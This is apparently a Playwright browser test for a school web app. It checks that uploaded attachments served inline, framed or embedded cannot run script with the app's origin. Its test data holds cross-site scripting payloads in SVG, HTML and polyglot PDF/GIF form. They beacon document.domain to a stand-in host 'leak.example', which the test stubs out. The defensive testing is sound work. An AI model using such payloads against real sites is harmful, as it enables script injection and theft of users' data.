"""Files of the school that would like to run: opened, framed and embedded in a real browser."""

from typing import Any

import pytest
from playwright.sync_api import Error, Page, Route, expect

from tests.browser.conftest import NEEDS_CHROMIUM
from tests.webapp.people import App, NewApp, tuesday_at
from upstream.simulator.server import Simulator

pytestmark = NEEDS_CHROMIUM

# What runs with our origin could read what the person can read.
SCRIPT = (
    "new Image().src='https://leak.example/'+document.domain;localStorage.setItem('ran','yes');"
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\"><script>{SCRIPT}</script></svg>"
HTML = f'<!DOCTYPE html><body onload="{SCRIPT}"><img src=x onerror="{SCRIPT}"></body>'
HOSTILE = {
    "svg": ("image/svg+xml", SVG),
    "html": ("text/html", HTML),
    "html named as a picture": ("image/png", HTML),
    "pdf and html": ("text/html", f"%PDF-1.4\n{HTML}\n%%EOF"),
    "gif and script": ("text/javascript", f"GIF89a/*\n*/=1;{SCRIPT}"),
}


def show(page: Page, address: str) -> None:
    """Go there; a file that is saved is no page."""
    try:
        page.goto(address)
    except Error as error:
        if "Download is starting" not in error.message and "ERR_ABORTED" not in error.message:
            raise


@pytest.mark.parametrize(("kind", "body"), HOSTILE.values(), ids=HOSTILE)
def test_nothing_of_a_file_runs_with_our_origin(
    new_app: NewApp, simulator: Simulator, kind: str, body: str
) -> None:
    app = new_app("elsa.nordvall", now=tuesday_at(10, 5))
    app.expect_problems("")  # the browser says of each part that it is refused
    app.open("/app/news")
    app.heading("News from school")
    page, ours = app.page, app.service.url
    article, file = with_a_picture(app)
    asked: list[str] = []
    app.context.on("request", lambda request: asked.append(request.url))
    app.context.route("https://leak.example/**", lambda route: route.fulfill(status=204))
    simulator.faults.set("file.bytes", "answer", body=body, headers={"Content-Type": kind})
    shown, saved = f"{file['url']}?inline=1", file["url"]

    # In the app.
    app.open(f"/app/news/{article['id']}")
    page.get_by_role("button", name=f"Show {file['name']}").click()
    if not body.startswith("GIF"):
        expect(page.get_by_text("The picture cannot be shown. Download it.")).to_be_visible()
    # Alone, and in a page of ours that forbids nothing.
    for address in (shown, saved):
        show(page, address)
    parts = (
        f"<script src='{shown}'></script><link rel=stylesheet href='{shown}'>"
        f"<img src='{shown}'><iframe src='{shown}'></iframe><iframe src='{saved}'></iframe>"
        f"<object data='{shown}'></object><embed src='{shown}'>"
    )
    host = {"body": parts, "content_type": "text/html"}
    app.context.route(f"{ours}/host", lambda route: route.fulfill(**host))
    page.goto(f"{ours}/host")
    assert ran(page, asked) == []

    # The same would be seen.
    def unprotected(route: Route) -> None:
        route.fulfill(body=f"<script>{SCRIPT}</script>", content_type="text/html")

    app.context.route(f"{ours}/unprotected", unprotected)
    page.goto(f"{ours}/unprotected")
    assert len(ran(page, asked)) == 2


def with_a_picture(app: App) -> tuple[dict[str, Any], dict[str, Any]]:
    """An article, and a picture of it."""
    for row in app.ask("/api/news/articles")["articles"]:
        article = app.ask(f"/api/news/{row['id']}")["article"]
        for file in article["attachments"]:
            if file["type"] == "image":
                return article, file
    raise AssertionError


def ran(page: Page, asked: list[str]) -> list[str]:
    """What has run, and whom it has told, by the time that another answer is there."""
    for _ in range(2):
        page.evaluate("fetch('/api/version').then(answer => answer.text())")
    marks = ["ran"] if page.evaluate("localStorage.getItem('ran')") else []
    return marks + [url for url in asked if url.startswith("https://leak.example/")]
